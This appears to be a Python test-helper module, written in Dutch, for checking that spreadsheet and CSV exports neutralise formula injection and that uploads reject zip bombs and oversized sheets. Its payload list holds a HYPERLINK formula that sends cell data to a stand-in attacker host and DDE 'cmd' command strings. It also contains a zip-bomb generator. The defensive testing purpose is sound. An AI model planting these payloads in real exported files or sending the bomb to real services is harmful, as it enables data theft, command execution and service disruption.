"""Formula payloads for the export tests, and checks that a sheet holds them as plain text."""

import csv
import io

from openpyxl import load_workbook

# What a line lead could type in a title: every character a spreadsheet starts a formula with.
FORMULES = [
    '=HYPERLINK("http://aanvaller.example/?d="&E2,"klik")',
    "+CMD|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    '\uff1dHYPERLINK("http://aanvaller.example")',  # full-width =
]


def formule(veld: str, nummer: int = 0) -> str:
    """A distinct payload per field, so a test can tell which field reached the sheet."""
    return f"{FORMULES[nummer % len(FORMULES)]}{veld}"


def xlsx_tekstcellen(inhoud: bytes) -> dict[str, set]:
    """Every cell of every sheet of an .xlsx: fails on a formula cell; returns the text values
    per sheet (each checked to be of data type ``s``)."""
    wb = load_workbook(io.BytesIO(inhoud))  # not read-only: data_type is as stored
    teksten = {}
    for ws in wb.worksheets:
        teksten[ws.title] = set()
        for rij in ws.iter_rows():
            for cel in rij:
                assert cel.data_type != "f", f"{ws.title}!{cel.coordinate}: formule {cel.value!r}"
                if isinstance(cel.value, str):
                    assert cel.data_type == "s"
                    teksten[ws.title].add(cel.value)
    return teksten


def csv_velden(tekst: str, scheiding: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(tekst.lstrip("\ufeff")), delimiter=scheiding))


def assert_csv_onschadelijk(rijen: list[list[str]]) -> None:
    """No field but a number starts with a character a spreadsheet reads as a formula."""
    for rij in rijen:
        for veld in rij:
            try:
                float(veld.replace(",", "."))
                continue  # a negative number stays a number
            except ValueError:
                pass
            assert veld[:1] not in set("=+-@\t\r\uff1d\uff0b\uff0d\uff20"), veld


# --- Sheets that break the upload limits, made in the test (never stored in the repository) ---

RIJ_XML = b'<row><c t="inlineStr"><is><t>' + b"A" * 200 + b"</t></is></c></row>"


def zipbom_xlsx(basis: bytes, *, uitgepakt_mb: int, blad: str = "xl/worksheets/sheet1.xml"):
    """``basis`` (a real .xlsx) with ``blad`` replaced by a sheet of ``uitgepakt_mb`` MB of rows
    that deflates to about a thousandth of that: a zip bomb. Written in chunks, so the test
    never holds the unpacked sheet in memory."""
    import zipfile

    uit = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(basis)) as oud, zipfile.ZipFile(uit, "w") as nieuw:
        for lid in oud.infolist():
            if lid.filename != blad:
                nieuw.writestr(lid, oud.read(lid.filename), compress_type=zipfile.ZIP_DEFLATED)
                continue
            info = zipfile.ZipInfo(blad)
            info.compress_type = zipfile.ZIP_DEFLATED
            with nieuw.open(info, "w", force_zip64=True) as f:
                f.write(
                    b'<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.'
                    b'openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
                )
                blok = RIJ_XML * 5000  # ≈ 1.2 MB
                for _ in range(uitgepakt_mb * 1_000_000 // len(blok)):
                    f.write(blok)
                f.write(b"</sheetData></worksheet>")
    return uit.getvalue()


def veel_rijen_xlsx(bladnaam: str, kop: list, rij: list, aantal: int) -> bytes:
    """A sheet ``bladnaam`` with the header ``kop`` and ``aantal`` copies of ``rij`` (openpyxl's
    write-only mode: streamed to the file)."""
    from openpyxl import Workbook

    wb = Workbook(write_only=True)
    ws = wb.create_sheet(bladnaam)
    ws.append(kop)
    for _ in range(aantal):
        ws.append(rij)
    uit = io.BytesIO()
    wb.save(uit)
    return uit.getvalue()
